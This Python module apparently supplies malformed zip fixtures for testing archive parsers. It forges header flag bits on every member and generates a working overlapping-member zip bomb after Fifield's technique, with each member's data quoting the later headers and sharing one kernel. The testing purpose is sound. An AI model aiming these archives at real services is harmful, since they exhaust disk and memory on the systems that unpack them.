"""Zip archives that no packer makes: headers with other flags, members that share their bytes."""

import struct
import zlib

_LOCAL = struct.Struct("<4s5H3L2H")
_CENTRAL = struct.Struct("<4s6H3LH")
_CENTRAL_REST = struct.Struct("<4H2L")
_END = struct.Struct("<4s4H2LH")
_LOCAL_FLAGS_AT = 6
_CENTRAL_FLAGS_AT = 8
_QUOTE_BYTES = 5


def with_flag(data: bytes, *, add: int = 0, clear: int = 0) -> bytes:
    """Set and clear bits of the flags of every member."""
    forged = bytearray(data)
    for magic, at in ((b"PK\x03\x04", _LOCAL_FLAGS_AT), (b"PK\x01\x02", _CENTRAL_FLAGS_AT)):
        start = data.find(magic)
        while start >= 0:
            flags = struct.unpack_from("<H", forged, start + at)[0]
            struct.pack_into("<H", forged, start + at, (flags | add) & ~clear)
            start = data.find(magic, start + 4)
    return bytes(forged)


def overlapping_archive(*, members: int, kernel: bytes) -> bytes:
    """Make a bomb in which each member's data hold the headers of the members after it, and all share one kernel.

    The headers are quoted by stored blocks of DEFLATE, as in "A better zip bomb" (David Fifield, WOOT 2019).
    """
    data, plain = _deflate(kernel), kernel
    directory: list[tuple[int, bytes]] = []
    for name in [str(index).encode() for index in reversed(range(members))]:
        fields = (zlib.crc32(plain), len(data), len(plain))
        header = _LOCAL.pack(b"PK\x03\x04", 20, 0, 8, 0, 33, *fields, len(name), 0) + name
        from_end = len(header) + len(data)
        directory.insert(0, (from_end, _CENTRAL.pack(b"PK\x01\x02", 20, 20, 0, 8, 0, 33, *fields, len(name)) + name))
        data = struct.pack("<BHH", 0, len(header), 0xFFFF ^ len(header)) + header + data
        plain = header + plain
    body = data[_QUOTE_BYTES:]
    return body + _directory(directory, body_bytes=len(body))


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def _directory(entries: list[tuple[int, bytes]], *, body_bytes: int) -> bytes:
    """Lay out the central directory of entries whose places are counted from the end of the body."""
    fixed = _CENTRAL.size
    laid = b"".join(
        entry[:fixed] + _CENTRAL_REST.pack(0, 0, 0, 0, 0, body_bytes - from_end) + entry[fixed:]
        for from_end, entry in entries
    )
    return laid + _END.pack(b"PK\x05\x06", 0, 0, len(entries), len(entries), len(laid), body_bytes, 0)
